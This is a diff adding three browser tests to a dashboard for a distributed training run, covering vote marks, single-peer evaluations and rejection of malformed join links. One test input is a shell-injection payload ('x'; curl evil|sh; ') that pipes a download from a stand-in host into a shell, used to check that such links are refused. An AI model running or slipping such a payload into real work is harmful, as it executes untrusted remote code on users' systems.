@@ -222,6 +222,33 @@ def test_the_line_to_join_is_copied(opened: Open, server: PageServer) -> None:
     assert page.evaluate("navigator.clipboard.readText()") == page.inner_text("#join-line")
 
 
+def test_a_name_is_not_taken_for_the_mark_of_a_vote(opened: Open, server: PageServer, run: FakeRun) -> None:
+    page, members = opened(server.url), run.picture["members"]
+    server.publish({**run.picture, "members": [{**member, "name": "◆ ada"} for member in members]})
+    marks = "cells => cells.map(cell => [cell.firstChild.textContent, cell.querySelector('.own').textContent])"
+    expect(page.locator("#people tbody .own").first).to_have_text("◆ ada")
+    shown = page.locator("#people tbody th").evaluate_all(marks)
+    assert {name for _, name in shown} == {"◆ ada"}
+    assert sum(text.startswith("◆") for text, _ in shown) == sum(member["votes"] > 0 for member in members)
+
+
+def test_what_one_drawn_member_states_is_marked_as_its_word(opened: Open, server: PageServer, run: FakeRun) -> None:
+    page, (*_, last) = opened(server.url), run.picture["evaluations"]
+    expect(page.locator("#scrub-text")).to_contain_text("two state the same text ~")
+    expect(page.locator("#tiles")).to_contain_text("held-out loss ~")
+    server.publish({**run.picture, "evaluations": [{**last, "by": [peer_id(3)]}]})
+    expect(page.locator("#scrub-text")).to_contain_text(f"the word of {peer_id(3)[-8:]} alone ~")
+    expect(page.locator("#tiles")).to_contain_text("stated by 1;")
+
+
+@pytest.mark.parametrize("run_id", ["x'; curl evil|sh; '", "", "b" * 51, "b" * 52 + "\n"])
+def test_what_is_no_link_cannot_be_copied(opened: Open, server: PageServer, run: FakeRun, run_id: str) -> None:
+    page = opened(server.url)
+    server.publish({**run.picture, "link": f"flockstep://{run_id}?via=/ip4/192.0.2.7/tcp/4001/p2p/{peer_id(99)}"})
+    expect(page.locator("#join-line")).to_have_text("The link of this run is not known.")
+    assert page.locator("#copy").is_disabled()
+
+
 def test_a_screen_reader_finds_landmarks_captions_and_names(opened: Open, server: PageServer) -> None:
     page = opened(server.url)
     nameless = """() => [...document.querySelectorAll(
